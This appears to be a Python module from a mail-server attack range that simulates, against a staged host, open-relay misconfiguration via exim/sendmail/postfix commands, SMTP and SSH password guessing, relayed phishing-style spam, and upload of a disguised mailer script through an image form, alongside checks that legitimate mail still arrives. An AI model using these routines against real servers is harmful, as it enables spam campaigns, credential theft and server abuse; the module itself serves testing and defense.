"""What a live host suffers, over the network as it happens: each function is bounded and returns how many recipients were taken,
or what it learned. Spam goes to SPAM_DOMAINS, mail that must survive to shops and to a reader's other mailbox."""

import concurrent.futures
import urllib.parse

from scenarios.mailer import AGENT, NAME, PATH, SCRIPT, URL
from stage import mail, ssh, web
from stage.network import ATTACKERS, BOTS, VISITORS

STRANGER, THIEF, INTRUDER, GUESSER = ATTACKERS[1], ATTACKERS[0], ATTACKERS[4], ATTACKERS[3]
SUBMISSION = 587
ABUSED = "info"  # the account whose password others know
OWNERS = {"sales": VISITORS[4], "orders": VISITORS[5]}  # accounts that mail as ever, and from where
SPAM_DOMAINS = [f"target{n}.example" for n in range(40)]
MESSAGES_MAX = 20_000
CALL_MAX = 50  # recipients of one call of a script
WORDS = ("123456", "password", "info2026", "mail", "qwerty", "welcome1")


# ---- the ways

def open_relay(host) -> None:
    """An administrator's mistake: every network may send through the host."""
    if host.is_exim():
        host.run("sed", "-i", "s#^dc_relay_nets=.*#dc_relay_nets='0.0.0.0/0'#", "/etc/exim4/update-exim4.conf.conf")
        host.shell("update-exim4.conf && kill -HUP $(cat /run/exim4/exim.pid)")
    elif host.is_sendmail():
        host.shell(r"""sed -i "/^FEATURE(.nocanonify')/i FEATURE(\`promiscuous_relay')dnl" /etc/mail/sendmail.mc
                       m4 /etc/mail/sendmail.mc > /etc/mail/sendmail.cf 2>/dev/null
                       kill -HUP $(head -n 1 /run/sendmail/mta/sendmail.pid)""")
    else:
        host.run("postconf", "-e", "mynetworks = 127.0.0.0/8 0.0.0.0/0")
        host.run("postfix", "reload")


def relays(host, source: str = STRANGER) -> bool:
    """Whether the host would send a stranger's mail on; asked as far as the recipient, nothing is handed in."""
    return mail.asked(source, "test@probe.example", "relay-test@elsewhere.example", host=host.address) in (250, 251)


def through_relay(host, messages: int, recipients: int = 1, source: str = STRANGER, connections: int = 8) -> int:
    """A stranger sends without a word of who it is."""
    mails = [_spam(n, f"security{n % 4}@bank-notice.example", recipients) for n in _bounded(messages)]
    return _hand_in(host, [mail.session(source, part) for part in _parts(mails, connections)], 25)


def guess_password(host, account: str = ABUSED, source: str = THIEF, words=WORDS) -> int:
    """Log-ins at the mail server with the words in turn; how many were refused."""
    told = mail.hand_in([mail.session(source, [], (account, word)) for word in words], SUBMISSION, host=host.address)
    return sum(one["login"] != mail.LOGGED_IN for one in told)


def with_password(host, messages: int, account: str = ABUSED, sources=BOTS, recipients: int = 1, domains=SPAM_DOMAINS) -> int:
    """Many networks send in one owner's name, each over a connection of its own."""
    mails = [_spam(n, f"billing{n % 30}@pay-service.example", recipients, domains) for n in _bounded(messages)]
    login = (account, host.passwords[account])
    return _hand_in(host, [mail.session(source, part, login) for source, part in zip(sources, _parts(mails, len(sources)))], SUBMISSION)


def logs_in(host, account: str, source: str = THIEF) -> bool:
    """Whether the mail server takes the account's password."""
    told = mail.hand_in([mail.session(source, [], (account, host.passwords[account]))], SUBMISSION, host=host.address)
    return told[0]["login"] == mail.LOGGED_IN


def upload_mailer(host) -> str:
    """A script that mails is sent in through the form of the role `gallery`; returns its path on the host."""
    status = web.upload(INTRUDER, "/gallery/send.php", "picture", NAME, "image/png", SCRIPT.encode(), agent=AGENT, host=host.address)
    if status != 200 or not (host.root / PATH.lstrip("/")).exists():
        raise RuntimeError(f"the form answered {status} and the script is not there")
    return PATH


def with_script(host, messages: int) -> int:
    """The uploaded script is fed with recipients; how many it was told in calls that it answered with 200."""
    return _call(host, messages, URL, lambda to: {"list": "\n".join(to), "subject": "Your parcel", "text": "It waits",
                                                  "from": "parcel@post-service.example"})


def through_form(host, messages: int) -> int:
    """The form of the role `recommend` is fed in the same way."""
    return _call(host, messages, "/recommend.php", lambda to: {"friends": ",".join(to), "subject": "Your prize", "text": "Here",
                                                               "from": "prize@lottery.example"})


def guess_ssh(host, account: str = "deploy", tries: int = 12, source: str = GUESSER) -> bool:
    """Guesses at ssh, three words a connection; the last one is right. Whether it opened the door."""
    words = [f"{account}{n}" for n in range(min(tries, 60))]
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda part: ssh.with_passwords(host.work, source, account, part, host=host.address), _parts(words, len(words) // 3)))
    return ssh.with_passwords(host.work, source, account, [host.passwords[account]], host=host.address).opened


# ---- what must survive

def usual_mail(host, messages: int = 200, name: str = "usual") -> list:
    """Owners write to customers, and others to an owner who has it forwarded (every fifth); returns the Message-IDs, all of
    which the sink must get in the end."""
    ids = [f"<{name}.{n}@mail.example>" for n in _bounded(messages)]
    forwarded, sent = ids[::5], [one for n, one in enumerate(ids) if n % 5]
    inward = [mail.message(f"person{n}@partner.example", "owner@example.jp", "A question", message_id=one) for n, one in enumerate(forwarded)]
    taken = _hand_in(host, [mail.session(VISITORS[9], part) for part in _parts(inward, 2)], 25)
    for owner, part in zip(OWNERS, _parts(sent, len(OWNERS))):
        mails = [mail.message(f"{owner}@example.jp", f"customer{n}@shop{n % 9}.example", "Your order", message_id=one) for n, one in enumerate(part)]
        login = (owner, host.passwords[owner])
        taken += _hand_in(host, [mail.session(OWNERS[owner], piece, login) for piece in _parts(mails, 4)], SUBMISSION)
    if taken != messages:
        raise RuntimeError(f"{messages - taken} of {messages} usual mails were not taken")
    return ids


def receives(host, account: str = "orders") -> bool:
    """Whether mail from outside comes into a mailbox and its owner reads it."""
    before = mail.look(OWNERS[account], account, host.passwords[account], host=host.address)
    inward = mail.session(VISITORS[9], [mail.message("person@partner.example", f"{account}@example.jp")])
    if before is None or _hand_in(host, [inward], 25) != 1:
        return False
    host.wait_until(f"mail for {account}",
                    lambda: mail.look(OWNERS[account], account, host.passwords[account], host=host.address) == before + 1)
    return True


def is_spam(envelope: dict) -> bool:
    """Of an envelope that the sink kept."""
    return any(to.rpartition("@")[2] in SPAM_DOMAINS for to in envelope["to"])


# ----

def _spam(n: int, sender: str, recipients: int, domains=SPAM_DOMAINS) -> dict:
    to = [f"user{n}.{k}@{domains[(n + k) % len(domains)]}" for k in range(recipients)]
    return mail.message(sender, to, "Your account", "Look at it now.")


def _bounded(messages: int) -> range:
    if messages > MESSAGES_MAX:
        raise ValueError(f"{messages} messages are more than the range sends")
    return range(messages)


def _parts(items: list, parts: int) -> list:
    """As many of about one size, none empty."""
    size = -(-len(items) // max(parts, 1))
    return [items[at:at + size] for at in range(0, len(items), max(size, 1))]


def _hand_in(host, sessions: list, port: int) -> int:
    return mail.taken(mail.hand_in(sessions, port, width=8, host=host.address))


def _call(host, messages: int, url: str, form) -> int:
    recipients = [f"user{n}@{SPAM_DOMAINS[n % len(SPAM_DOMAINS)]}" for n in _bounded(messages)]
    taken = 0
    for part in _parts(recipients, -(-messages // CALL_MAX)):
        status = web.request(INTRUDER, url, form=urllib.parse.urlencode(form(part)), agent=AGENT, host=host.address)
        taken += len(part) if status == 200 else 0
    return taken
